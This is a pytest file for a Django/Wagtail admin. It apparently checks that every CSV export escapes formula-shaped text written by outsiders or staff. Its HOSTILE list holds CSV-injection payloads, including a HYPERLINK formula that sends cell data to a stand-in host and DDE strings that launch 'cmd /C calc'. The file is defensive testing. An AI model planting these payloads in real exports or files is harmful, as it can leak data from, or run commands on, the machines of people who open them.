"""Every CSV export in the admin, walked: no cell a spreadsheet would run as a formula, whoever wrote it.

Outsiders write some of what staff export: the consent wording the public subscribe form posts goes to the consent
ledger, a patient's reply to the inbox, the booking system's names to contacts. The test finds every export view in
the URL configuration (ours and Wagtail's), fills the database with formula-shaped text through the doors outsiders
use and those staff use, downloads each export as a superuser and reads every cell.
"""

import csv
import io
import json
import uuid

import pytest
from django.core.cache import cache
from django.urls import URLResolver, get_resolver
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect

from config.spreadsheets import FORMULA_STARTS
from tests.cms.factories import make_article, make_document, make_image, make_person, make_site_tree, make_topic
from tests.fixtures.loaders import PUBLIC_BASE_URL, TWILIO_TOKEN, post_twilio, twilio_form
from tests.outreach.factories import fictional_phone, make_campaign, make_consultation, make_contact, sent_sms_row

pytestmark = pytest.mark.django_db
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def export_routes():
    def walk(patterns, prefix=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern))
            else:
                view_class = getattr(pattern.callback, "view_class", None)
                if view_class and issubclass(view_class, SpreadsheetExportMixin):
                    yield "/" + prefix + str(pattern.pattern)

    return sorted(set(walk(get_resolver().url_patterns)))


@pytest.fixture
def hostile_world(client, settings, django_user_model):
    cache.clear()
    settings.TWILIO_AUTH_TOKEN, settings.PUBLIC_BASE_URL = TWILIO_TOKEN, PUBLIC_BASE_URL
    settings.OUTREACH_SUBSCRIBE_PER_IP_HOUR = 1000
    settings.AXES_ENABLED = False
    home, index = make_site_tree()
    make_topic("ptsd")
    for n, text in enumerate(HOSTILE):
        # Outsiders, over HTTP: the public subscribe form and a text message.
        client.post(
            "/api/outreach/v1/subscriptions/",
            json.dumps({"email": f"r{n}@example.com", "topics": ["ptsd"], "consent_wording": text}),
            content_type="application/json",
        )
        contact = make_contact(first_name=text, last_name=text, phone=fictional_phone(3500 + n))
        post_twilio(
            client,
            "/webhooks/twilio/inbound/",
            twilio_form("inbound_sms", Body=text, From=str(contact.phone), MessageSid="SM" + uuid.uuid4().hex),
        )
        # Staff and the booking system, in the database.
        make_consultation(contact, external_id=f"{text}-{n}", location=text)
        make_campaign(name=f"{text} {n}")
        sent_sms_row(contact=contact, status="failed", sid="", error_message=text, error_code=text[:20])
        make_topic(f"t{n}", name=text)
        make_person(name=text, credentials=text[:50])
        make_article(index, slug=f"hostile-{n}", title=text, hero_image=make_image(title=text))
        document = make_document(title=text)
        Redirect.objects.create(old_path=f"/old-{n}", redirect_link=f"https://clinic.example/{n}")
        django_user_model.objects.create_user(f"user{n}", f"u{n}@example.com", "x" * 20, first_name=text)
        assert document.pk
    admin = django_user_model.objects.create_superuser("auditor", "auditor@example.com", "y" * 20)
    client.force_login(admin)
    return client


def test_no_export_has_a_cell_a_spreadsheet_would_run(hostile_world):
    routes = export_routes()
    assert "/admin/outreach/consent/" in routes and "/admin/reports/site-history/" in routes
    exported_cells = 0
    for route in routes:
        response = hostile_world.get(route, {"export": "csv"})
        assert response.status_code == 200, route
        if not response.get("Content-Type", "").startswith("text/csv"):
            continue  # a listing that offers no export
        text = b"".join(response.streaming_content).decode()
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                exported_cells += 1
                assert not cell.startswith(FORMULA_STARTS), (route, cell)
    assert exported_cells > 100

    ledger = b"".join(hostile_world.get("/admin/outreach/consent/", {"export": "csv"}).streaming_content).decode()
    assert "'=HYPERLINK(" in ledger  # the outsider's text is there, as text
